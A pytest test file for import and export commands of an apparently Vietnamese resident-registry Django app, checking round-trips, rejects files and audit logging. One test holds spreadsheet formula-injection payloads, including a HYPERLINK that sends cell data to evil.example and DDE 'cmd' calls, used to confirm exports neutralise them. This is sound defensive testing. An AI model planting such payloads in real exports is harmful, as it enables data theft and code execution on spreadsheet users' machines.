import csv
import io
import json
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from python_calamine import CalamineWorkbook

from congdanso.core.models import AuditAction, AuditEvent
from congdanso.people.exporters import EXPORT_COLUMNS
from congdanso.people.models import Resident
from congdanso.people.tests.factories import ResidentFactory
from congdanso.people.tests.files import HEADER, write_csv, write_xlsx
from congdanso.people.tests.test_import import ROWS
from congdanso.places.models import Place

pytestmark = pytest.mark.django_db


def _run(*args: str) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out)
    return out.getvalue()


def test_json_output_has_the_contract_keys_and_rows_add_up(tmp_path: Path, ea_yong: Place) -> None:
    path = write_xlsx(tmp_path / "ds.xlsx", [HEADER, *ROWS, ["", ""], ["", "Trưởng thôn"]])
    out = _run("import-residents", str(path), "--commune", ea_yong.code, "--json")
    result = json.loads(out)
    for key in ("rows", "created", "updated", "unchanged", "rejected", "warnings", "seconds"):
        assert key in result
    assert result["rows"] == 5
    assert result["rows"] == (
        result["created"] + result["updated"] + result["unchanged"] + result["rejected"]
    )


def test_rejects_file_keeps_row_number_original_cells_and_vietnamese_reason(
    tmp_path: Path, ea_yong: Place
) -> None:
    rows = [HEADER, ROWS[0], [7, "Phan Văn Tú", "01/01/1990", "Nam", "", "", "Thôn Xa Lạ"]]
    path = write_xlsx(tmp_path / "ds.xlsx", rows)
    rejects = tmp_path / "rejects.csv"
    _run("import-residents", str(path), "--commune", ea_yong.code, "--rejects", str(rejects))

    raw = rejects.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert table[0] == ["Dòng", *HEADER, "Lý do"]
    assert table[1][:3] == ["3", "7", "Phan Văn Tú"]
    assert "Thôn Xa Lạ" in table[1][-1]
    assert "Không" in table[1][-1] or "không" in table[1][-1]


def test_fatal_error_exits_2_with_a_vietnamese_then_english_line(
    tmp_path: Path, ea_yong: Place
) -> None:
    path = tmp_path / "missing.xlsx"
    with pytest.raises(CommandError) as error:
        _run("import-residents", str(path), "--commune", ea_yong.code)
    assert error.value.returncode == 2
    message = str(error.value)
    assert "\n" not in message
    assert " / " in message


def test_export_has_the_contract_columns_and_reimports_unchanged(
    tmp_path: Path, ea_yong: Place
) -> None:
    rows = [HEADER, *ROWS, [5, "Lê Văn Cường", "31/02/1990", "Nam", "12345", "", "Tân Lập"]]
    _run("import-residents", str(write_xlsx(tmp_path / "ds.xlsx", rows)), "--commune", ea_yong.code)
    out = tmp_path / "export.csv"
    _run("export-residents", "--commune", ea_yong.code, "--out", str(out))

    table = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert tuple(table[0].keys()) == EXPORT_COLUMNS
    by_name = {r["full_name"]: r for r in table}
    assert by_name["H'Nga Niê"]["birth_date"] == "1970"
    assert by_name["H'Nga Niê"]["birth_date_precision"] == "year"
    assert by_name["Nguyễn Thị Hoà"]["birth_date"] == "1990-04-12"
    assert by_name["Nguyễn Thị Hoà"]["gender"] == "F"
    assert by_name["Lê Văn Cường"]["issues"] == "birth_date_invalid;cccd_invalid"

    again = json.loads(_run("import-residents", str(out), "--commune", ea_yong.code, "--json"))
    assert (again["rows"], again["unchanged"]) == (5, 5)


def test_xlsx_export_keeps_cccd_as_text_and_reimports_unchanged(
    tmp_path: Path, ea_yong: Place
) -> None:
    _run(
        "import-residents",
        str(write_xlsx(tmp_path / "ds.xlsx", [HEADER, *ROWS])),
        "--commune",
        ea_yong.code,
    )
    out = tmp_path / "export.xlsx"
    _run("export-residents", "--commune", ea_yong.code, "--format", "xlsx", "--out", str(out))

    sheet = CalamineWorkbook.from_path(str(out)).get_sheet_by_index(0).to_python()
    assert tuple(sheet[0]) == EXPORT_COLUMNS
    assert "066190012345" in [row[5] for row in sheet]
    again = json.loads(_run("import-residents", str(out), "--commune", ea_yong.code, "--json"))
    assert again["unchanged"] == Resident.objects.filter(commune=ea_yong).count() == 4


FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Nguyễn Văn A")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def test_formula_like_names_are_exported_as_text_and_reimported_unchanged(
    tmp_path: Path, ea_yong: Place
) -> None:
    village = Place.objects.get(parent=ea_yong, name="Thôn Cao Bằng")
    for name in FORMULA_NAMES:
        ResidentFactory(village=village, full_name=name)
    out = tmp_path / "export.csv"
    _run("export-residents", "--commune", ea_yong.code, "--out", str(out))

    table = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    # a spreadsheet shows a cell that starts with an apostrophe as text, never a formula
    assert sorted(r["full_name"] for r in table) == sorted("'" + n for n in FORMULA_NAMES)
    again = json.loads(_run("import-residents", str(out), "--commune", ea_yong.code, "--json"))
    assert (again["rows"], again["unchanged"]) == (4, 4)
    stored = set(Resident.objects.filter(commune=ea_yong).values_list("full_name", flat=True))
    assert stored == set(FORMULA_NAMES)


def test_a_rejected_formula_cell_is_written_as_text_in_the_rejects_file(
    tmp_path: Path, ea_yong: Place
) -> None:
    rows = [HEADER, [1, "=1+1", "01/01/1990", "Nam", "", "", "Thôn Xa Lạ"]]
    rejects = tmp_path / "rejects.csv"
    path = write_csv(tmp_path / "ds.csv", rows)
    _run("import-residents", str(path), "--commune", ea_yong.code, "--rejects", str(rejects))

    table = list(csv.reader(io.StringIO(rejects.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert table[1][2] == "'=1+1"


def test_export_is_audited_with_the_commune_and_the_count(tmp_path: Path, ea_yong: Place) -> None:
    village = Place.objects.get(parent=ea_yong, name="Thôn Cao Bằng")
    ResidentFactory(village=village, cccd="066190012345")
    _run("export-residents", "--commune", ea_yong.code, "--out", str(tmp_path / "x.csv"))
    _run("export-residents", "--commune", ea_yong.code, "--out", str(tmp_path / "x.xlsx"))

    events = AuditEvent.objects.filter(action=AuditAction.EXPORT, commune_id=ea_yong.pk)
    assert [(e.via, e.changes["format"], e.changes["residents"]) for e in events] == [
        ("command", "xlsx", 1),
        ("command", "csv", 1),
    ]
    assert events[0].changes["fields"] == ["cccd", "phone"]
